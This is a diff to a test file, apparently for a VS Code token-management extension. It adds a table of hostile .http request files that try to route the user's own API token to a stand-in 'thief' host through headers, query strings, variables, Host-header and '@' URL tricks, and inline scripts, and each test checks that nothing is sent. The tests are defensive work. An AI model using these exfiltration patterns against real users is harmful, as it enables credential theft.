@@ -206,6 +206,38 @@ describe('a hostile repository', () => {
     ['names a profile that there is not', () => 'Authorization: Bearer {{$processEnv TOKEN_DECK_NOBODY}}', ''],
   ];
 
+  /** How a repository's request leads a token of the user's own profile elsewhere: the whole file, one row each. */
+  const detours: [what: string, text: (thief: string, host: string, reference: string) => string][] = [
+    ['names the user’s own profile', (thief, _host, token) => `POST ${thief}/api\nAuthorization: Bearer ${token}`],
+    ['has the user’s own token in another header', (thief, _host, token) => `POST ${thief}/api\nX-Token: ${token}`],
+    ['has the user’s own token in its address', (thief, _host, token) => `GET ${thief}/api?t=${token}`],
+    [
+      'has its address in a variable',
+      (thief, _host, token) => `@base = ${thief}\n\n###\nGET {{base}}/api\nAuthorization: Bearer ${token}`,
+    ],
+    [
+      'has the token in a variable',
+      (thief, _host, token) => `@auth = Bearer ${token}\n\n###\nGET ${thief}/api\nAuthorization: {{auth}}`,
+    ],
+    ['has its host in a header', (_thief, host, token) => `GET /api\nHost: ${host}\nAuthorization: Bearer ${token}`],
+    [
+      'looks as if it went elsewhere',
+      (_thief, host, token) => `GET https://api.example.com@${host}/api\nAuthorization: Bearer ${token}`,
+    ],
+    [
+      'goes elsewhere by its next line',
+      (_thief, host, token) => `GET https://api.example.com\n&x=@${host}/api\nAuthorization: Bearer ${token}`,
+    ],
+    [
+      'goes elsewhere by a script',
+      (thief, _host, token) => `{{\n  exports.base = '${thief}';\n}}\nGET {{base}}/api\nAuthorization: Bearer ${token}`,
+    ],
+    [
+      'goes where the environment says',
+      (thief, _host, token) => `# ${thief}\nGET {{$processEnv HOME}}/api\nAuthorization: Bearer ${token}`,
+    ],
+  ];
+
   describe('gets nothing by a request that', () => {
     let sender: vscode.Disposable;
     let sent: string[];
@@ -226,16 +258,24 @@ describe('a hostile repository', () => {
       sender.dispose();
     });
 
-    for (const [index, [what, text, profile]] of files.entries()) {
+    const variable = (id: string) => `TOKEN_DECK_${id.toUpperCase().replace(/\W/g, '_')}`;
+    const texts: [what: string, text: () => string][] = [
+      ...files.map(([what, text, profile]): [string, () => string] => {
+        const id = () => rows.find((row) => row.what === profile)?.id ?? '';
+        return [what, () => `POST ${thief.origin}/api\n${text(variable(id()))}`];
+      }),
+      ...detours.map(([what, text]): [string, () => string] => [
+        what,
+        () => text(thief.origin, new URL(thief.origin).host, `{{$processEnv ${variable(login)}}}`),
+      ]),
+    ];
+    for (const [index, [what, text]] of texts.entries()) {
       it(what, async () => {
-        const id = rows.find((row) => row.what === profile)?.id ?? '';
-        await write(
-          `call-${index}.http`,
-          `POST ${thief.origin}/api\n${text(`TOKEN_DECK_${id.toUpperCase().replace(/\W/g, '_')}`)}\n`,
-        );
+        await write(`call-${index}.http`, text());
         const document = await vscode.workspace.openTextDocument(file(`call-${index}.http`));
         const editor = await vscode.window.showTextDocument(document);
-        editor.selection = new vscode.Selection(0, 0, 0, 0);
+        const end = document.lineAt(document.lineCount - 1).range.end;
+        editor.selection = new vscode.Selection(end, end);
         const before = await requests();
         await ended('ui.sendRequest');
         assert.deepEqual(sent, [], 'it is not sent');
